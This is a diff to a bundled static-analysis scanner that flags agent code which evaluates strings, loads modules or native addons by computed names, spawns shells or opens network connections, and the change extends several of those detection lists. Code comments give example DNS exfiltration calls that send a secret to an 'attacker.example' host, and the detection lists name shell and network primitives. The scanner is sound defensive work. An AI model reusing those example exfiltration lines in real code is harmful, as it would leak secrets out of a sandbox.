@@ -43759,7 +43759,7 @@ var dynamicCode = defineRule({
   severity: "error",
   category: "scan",
   summary: "Agent code runs code the scan cannot read: exec, eval, compile, new Function, vm or a string timer given a value that is not a constant string; a module loaded by a name computed at run time; a file run by its path (runpy, a source loader); a pickle or other data naming functions loaded.",
-  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`, the debuggers', profilers' and timers' (\`pdb.run\`/\`runeval\`/\`runctx\`, \`profile\` and \`cProfile\`'s \`run\`/\`runctx\`, \`trace.Trace().run\`, \`timeit.timeit\`/\`repeat\`/\`Timer\`: statement and setup); JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, a CommonJS module compiled from a string (\`new Module(id)._compile(code, file)\`, \`Module.prototype._compile.call(m, code, file)\`), an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`, a debugger's prompt: \`breakpoint()\`, \`pdb.set_trace()\`), CPython's C API through \`ctypes.pythonapi\` (\`PyRun_SimpleString\`, \`PyImport_ImportModule\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`cffi.FFI().dlopen\`, \`process.dlopen\`) and a pickle or other data that names functions loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`, \`shelve.open\`, \`jsonpickle.decode\`, \`pandas.read_pickle\`, PyYAML's \`unsafe_load\` and its full loaders handed over, \`yaml.load(s, Loader=yaml.Loader)\`: loading calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included), and Python's \`object.__subclasses__()\` (also \`().__class__.__base__.__subclasses__()\`: every class loaded, \`subprocess.Popen\` among them, picked by a name built at run time) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS_WRITTEN} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
+  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`, the debuggers', profilers' and timers' (\`pdb.run\`/\`runeval\`/\`runctx\`, \`profile\` and \`cProfile\`'s \`run\`/\`runctx\`, \`trace.Trace().run\`, \`timeit.timeit\`/\`repeat\`/\`Timer\`: statement and setup); JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, a CommonJS module compiled from a string (\`new Module(id)._compile(code, file)\`, \`Module.prototype._compile.call(m, code, file)\`), an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`, a debugger's prompt: \`breakpoint()\`, \`pdb.set_trace()\`), CPython's C API through \`ctypes.pythonapi\` (\`PyRun_SimpleString\`, \`PyImport_ImportModule\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`cffi.FFI().dlopen\`, \`process.dlopen\`, a native addon required by its path: \`require("./build/Release/x.node")\`) and a pickle or other data that names functions loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`, \`shelve.open\`, \`jsonpickle.decode\`, \`pandas.read_pickle\`, PyYAML's \`unsafe_load\` and its full loaders handed over, \`yaml.load(s, Loader=yaml.Loader)\`: loading calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included), and Python's \`object.__subclasses__()\` (also \`().__class__.__base__.__subclasses__()\`: every class loaded, \`subprocess.Popen\` among them, picked by a name built at run time) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS_WRITTEN} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
   message: (evaluator, reason) => `\`${evaluator}\` runs code the scan cannot read (${reason}); what it runs could bypass ${BYPASSED}.`
 });
 var unusedSuppression = defineRule({
@@ -43991,6 +43991,7 @@ var SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyn
 var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
 var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
+var ASYNCIO_SUBPROCESS = ["create_subprocess_exec", "create_subprocess_shell"];
 var LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
 var withAsync = (prefix, ...paths) => paths.flatMap((p) => [p, p.replace(/[^.]+$/, `${prefix}$&`)]);
 var langchainModels = (bySubmodule) => client(...Object.entries(bySubmodule).flatMap(([sub, names]) => names.flatMap((n) => [n, `${sub}.${n}`])));
@@ -44077,7 +44078,8 @@ var DEFAULT_SPECS = [
   // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
   py("invoke", call("run", "sudo", `Context${RETURNED}.run`, `Context${RETURNED}.sudo`), "shell"),
   py("sh", { [ANY]: "call", ...inert("ErrorReturnCode", "SignalException", "CommandNotFound", "TimeoutException") }, "shell"),
-  py("asyncio", call("create_subprocess_exec", "create_subprocess_shell", ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
+  py("asyncio", call(...ASYNCIO_SUBPROCESS, ...ASYNCIO_SUBPROCESS.map((m) => `subprocess.${m}`), ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
+  py("asyncio.subprocess", call(...ASYNCIO_SUBPROCESS), "shell"),
   py("asyncio", call("open_connection", "open_unix_connection", ...EVENT_LOOPS.flatMap((l) => LOOP_CONNECT.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   py("pexpect", { ...call("spawn", "spawnu", "run", "runu", "popen_spawn.PopenSpawn"), ...client("pxssh.pxssh") }, "shell"),
   py("ptyprocess", call("PtyProcess.spawn", "PtyProcessUnicode.spawn"), "shell"),
@@ -44118,8 +44120,11 @@ var DEFAULT_SPECS = [
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
   py("socket", { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network"),
-  // A TLS connection made to read a server's certificate.
-  py("ssl", call("get_server_certificate"), "network"),
+  // A TLS connection made to read a server's certificate, socket's `create_connection` as ssl re-exports it, and a
+  // wrapped socket connecting (`ctx.wrap_socket(socket.socket(), server_hostname=h).connect(addr)`).
+  py("ssl", call("get_server_certificate", "create_connection", ...["wrap_socket", ...["SSLContext", "create_default_context"].map((c) => `${c}${RETURNED}.wrap_socket`)].flatMap((w) => SOCKET_USE.map((m) => `${w}${RETURNED}.${m}`))), "network"),
+  // multiprocessing's connection to a listener at an address (another host's as well as this one's).
+  py("multiprocessing.connection", client("Client"), "network"),
   // Fabric: an SSH connection to a host, whose `run` starts a shell there.
   py("fabric", client("Connection"), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
@@ -44217,9 +44222,12 @@ var DEFAULT_SPECS = [
   js(GLOBAL, call("XMLHttpRequest"), "network", "new"),
   js("http", call("request", "get"), "network", "call"),
   js("https", call("request", "get"), "network", "call"),
+  // A request made by its class, and an agent's sockets opened by hand (`http.globalAgent.createConnection(opts)`).
+  js("http", call("ClientRequest"), "network", "new"),
+  ...["http", "https"].map((m) => js(m, call("globalAgent.createConnection", `Agent${RETURNED}.createConnection`), "network", "call")),
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
-  js("tls", call("connect"), "network", "call"),
+  js("tls", call("connect", `TLSSocket${RETURNED}.connect`), "network", "call"),
   // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
   js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
   js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
@@ -51196,6 +51204,9 @@ var import_tree_sitter_wasm3 = __toESM(require_tree_sitter());
 
 // core/scan/analysis.ts
 var import_tree_sitter_wasm2 = __toESM(require_tree_sitter());
+var UNREAD_LOAD = "it loads a module named at run time, which may be any, a shell or network module included, or the code of a data: URL";
+var EVERY_CLASS = "it lists every class the process loaded, which it may pick any of by a name built at run time, `subprocess.Popen` included";
+var NATIVE_ADDON = "it loads a native addon, whose code the scan cannot read";
 var YIELDED = "yield";
 var YIELDED_NOTE = "It is yielded by a generator: whatever consumes the generator gets it";
 var commentText = ({ startIndex, endIndex, text: text4 }) => ({ startIndex, endIndex, text: text4 });
@@ -52256,6 +52267,8 @@ function surelyNoPattern(source, close) {
 var STRING_START = /* @__PURE__ */ new Set(["'", '"', "`"]);
 var mayBeString = (source, value) => STRING_START.has(source[value.startIndex]) || mayJoinArray(source, value.startIndex, value.endIndex);
 var DATA_URL = /^[`'"]?data:/i;
+var NATIVE_ADDON_NAME = /[^'"`\n]*\.node/;
+var NATIVE_ADDON_PATH = new RegExp(`${NATIVE_ADDON_NAME.source}$`);
 var PATH_NAME = /^(?:[`'"](?:\.{1,2}\/|\/)|(?:path\s*\.\s*)?(?:join|resolve)\s*\(|__dirname|__filename|import\s*\.\s*meta|new\s+URL\s*\()/;
 var CREATE_REQUIRE_PATH = [MODULE_BUILTIN, "createRequire"].join(".");
 var LOADERS = /* @__PURE__ */ new Set(["require", "module", "process", "createRequire", "Reflect"]);
@@ -52373,8 +52386,9 @@ function callsOf(callees, args2, resolver, bindings, known, source) {
     const head = parenthesized ? void 0 : rootAt(source, captured2.startIndex);
     const privateRead = head !== void 0 && !known(head) && privateHelperAt(PRIVATE_READ_AT, source, captured2.startIndex);
     const descriptorRead = head !== void 0 && OBJECT_READ_HEADS.has(head) && privateHelperAt(OBJECT_READ_AT, source, captured2.startIndex);
-    if (kind === "call" && (!head || known(head) || head === "import" && captured2.type === "import") && !namesLiterally(source, node2.endIndex) && resolver.unreadLoad(node2)) {
-      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: kind, unreadLoad: true });
+    const unread = kind === "call" && (!head || known(head) || head === "import" && captured2.type === "import") && !namesLiterally(source, node2.endIndex) ? resolver.unreadLoad(node2) : void 0;
+    if (unread) {
+      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: kind, unread });
       continue;
     }
     const passedThrough2 = head !== void 0 && PASS_THROUGH_HEADS.has(head) && captured2.type === "call_expression" && PASS_THROUGH.test(captured2.childForFieldName("function")?.text ?? "");
@@ -52477,7 +52491,7 @@ var LITERAL_ARGUMENTS = /\s*\(\s*(?:(["'`])([^"'`\\\n$]*)\1\s*)?\)/y;
 function namesLiterally(source, end) {
   LITERAL_ARGUMENTS.lastIndex = end;
   const match = LITERAL_ARGUMENTS.exec(source);
-  return match !== null && !DATA_URL.test(match[2] ?? "");
+  return match !== null && !DATA_URL.test(match[2] ?? "") && !NATIVE_ADDON_PATH.test(match[2] ?? "");
 }
 var WITH_TEXT = /\bwith\s*\(/;
 var WITH_TEXTS = new RegExp(WITH_TEXT.source, "g");
@@ -53101,22 +53115,24 @@ var Resolver = class {
     return base && member !== void 0 ? extend2(base, member) : void 0;
   }
   /**
-   * Is the call of `fn` (its `function`) a load of a module by a name the scan cannot read (`require(n)`, `import(atob(\u2026))`,
-   * `process.getBuiltinModule(x)`), or of code in a `data:` URL? A name that starts as a path (`` `./plugins/${p}` ``, `"./" + f`, `path.join(\u2026)`,
-   * `__dirname`, `new URL(\u2026)`) names a project file, which is judged on its own, and is not one.
+   * Why the call of `fn` (its `function`) loads code the scan cannot read, if it does: a module by a name the scan cannot
+   * read (`require(n)`, `import(atob(\u2026))`, `process.getBuiltinModule(x)`), code in a `data:` URL (UNREAD_LOAD), a native
+   * addon (NATIVE_ADDON: `require("./build/Release/x.node")`). A name that starts as a path (`` `./plugins/${p}` ``,
+   * `"./" + f`, `path.join(\u2026)`, `__dirname`, `new URL(\u2026)`) names a project file, which is judged on its own, and is not one.
    */
   unreadLoad(fn) {
     const load = this.loadArgument(unwrap3(fn), 0);
-    if (!load) return false;
+    if (!load) return void 0;
     const given = namedChildrenOf(fn.parent)[load.at];
-    if (!given || load.listed && given.type !== "array") return false;
+    if (!given || load.listed && given.type !== "array") return void 0;
     const name2 = load.listed ? namedChildrenOf(given)[0] : given;
-    if (!name2) return false;
+    if (!name2) return void 0;
     const specifier = this.constants.stringOf(name2);
-    if (DATA_URL.test(specifier ?? name2.text)) return true;
-    if (specifier !== void 0) return false;
+    if (DATA_URL.test(specifier ?? name2.text)) return UNREAD_LOAD;
+    if (specifier !== void 0) return NATIVE_ADDON_PATH.test(specifier) ? NATIVE_ADDON : void 0;
     const literal2 = name2.type === "string" || name2.type === "template_string" && !name2.namedChildren.some((part) => part?.type === "template_substitution");
-    return !literal2 && !PATH_NAME.test(name2.text);
+    if (literal2 || !PATH_NAME.test(name2.text)) return literal2 ? void 0 : UNREAD_LOAD;
+    return NATIVE_ADDON_PATH.test(name2.text.replace(/['"`)]+$/, "")) ? NATIVE_ADDON : void 0;
   }
   /** `require('m')` and `import('m')` with a literal specifier (require not shadowed); `promisify(f)` and `await (f)` are `f`. */
   moduleOfCall(node2, depth) {
@@ -54463,7 +54479,7 @@ function callsOf2(callees, args2, resolver, known, source) {
   const calls = [];
   for (const [captured2] of callees) {
     if (source.startsWith(SUBCLASSES, captured2.endIndex - SUBCLASSES.length) && listsEveryClass(captured2, resolver)) {
-      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: "call", reflected: true });
+      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: "call", unread: EVERY_CLASS });
       continue;
     }
     const written = CONTAINER_OPENS.has(source[captured2.startIndex]) || namespaceCopyAt(source, captured2.startIndex);
@@ -54473,7 +54489,7 @@ function callsOf2(callees, args2, resolver, known, source) {
     const text4 = callee.text;
     if (written && !identifiersIn(text4).some(known)) continue;
     if (resolver.unreadLoad(captured2)) {
-      calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text4), path: { module: GLOBAL, members: [] }, form: "call", unreadLoad: true });
+      calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text4), path: { module: GLOBAL, members: [] }, form: "call", unread: UNREAD_LOAD });
       continue;
     }
     const invoked = callee.type === "attribute" && callee.childForFieldName("attribute")?.text === "__call__" ? callee.childForFieldName("object") : null;
@@ -55495,7 +55511,7 @@ var LanguageRules = class {
       const globals = [...rootsOf(globalSpecs)];
       const called2 = rootsOf(globalSpecs.filter((s) => s.form !== "new"));
       const constructedOnly = globals.filter((g) => !called2.has(g));
-      const specifiers = specifierNames.length ? new RegExp(`(?:\\bfrom|\\bimport|\\brequire)\\s*\\(?\\s*['"\`](?:node:)?(?:${specifierNames.map(escape).join("|")})['"\`]`) : void 0;
+      const specifiers = new RegExp(`(?:\\bfrom|\\bimport|\\brequire)\\s*\\(?\\s*['"\`](?:(?:node:)?(?:${[...specifierNames.map(escape), NATIVE_ADDON_NAME.source].join("|")}))['"\`]`);
       const globalUse = globals.length ? globalOccurrences(globals.map(escape), constructedOnly.map(escape)) : void 0;
       const globalWord = globals.length ? new RegExp(`(?<![\\w$])(?:${globals.map(escape).join("|")})(?![\\w$])`, "g") : void 0;
       const computed = new RegExp(
@@ -55506,7 +55522,7 @@ var LanguageRules = class {
         ].join("|")
       );
       const quoted = specifierNames.length ? new RegExp(`['"\`](?:node:)?(?:${specifierNames.map(escape).join("|")})['"\`]`) : void 0;
-      const loaderAt = atOnePlace(specifiers ? [specifiers, JS_JOINED_SPECIFIER] : [JS_JOINED_SPECIFIER]);
+      const loaderAt = atOnePlace([specifiers, JS_JOINED_SPECIFIER]);
       const computedAt = atOnePlace([computed]);
       const computedNameAt = atOnePlace([COMPUTED_NAME]);
       const globalLiterals = coveringLiterals(globals);
@@ -55718,8 +55734,6 @@ function callsOnlyIn(other, these) {
   const seen = new Set(these.map(findingKey));
   return other.filter((f) => BOUNDARY_RULE_IDS.has(f.rule) && !seen.has(findingKey(f)));
 }
-var EVERY_CLASS = "it lists every class the process loaded, which it may pick any of by a name built at run time, `subprocess.Popen` included";
-var UNREAD_LOAD = "it loads a module named at run time, which may be any, a shell or network module included, or the code of a data: URL";
 var CODE_PATH = "<code>";
 var LANGUAGE_NAME = { python: "Python", javascript: "JavaScript", typescript: "TypeScript", tsx: "TSX" };
 var Scanner = class _Scanner {
@@ -56085,8 +56099,8 @@ var Scanner = class _Scanner {
     for (const call2 of analysis.calls) {
       const range = lines.range(call2.start, call2.end);
       const callee = call2.form === "new" ? `new ${call2.callee}` : call2.callee;
-      if (call2.unreadLoad || call2.reflected) {
-        out2.push(dynamicCode.at(path2, range, callee, call2.reflected ? EVERY_CLASS : UNREAD_LOAD));
+      if (call2.unread) {
+        out2.push(dynamicCode.at(path2, range, callee, call2.unread));
         continue;
       }
       const hops = (call2.path.via ?? []).map((hop2) => ({ ...hop2.placed ?? { ...lines.range(hop2.start, hop2.end), text: hopText(text4, hop2) }, tracked: hop2.tracked }));
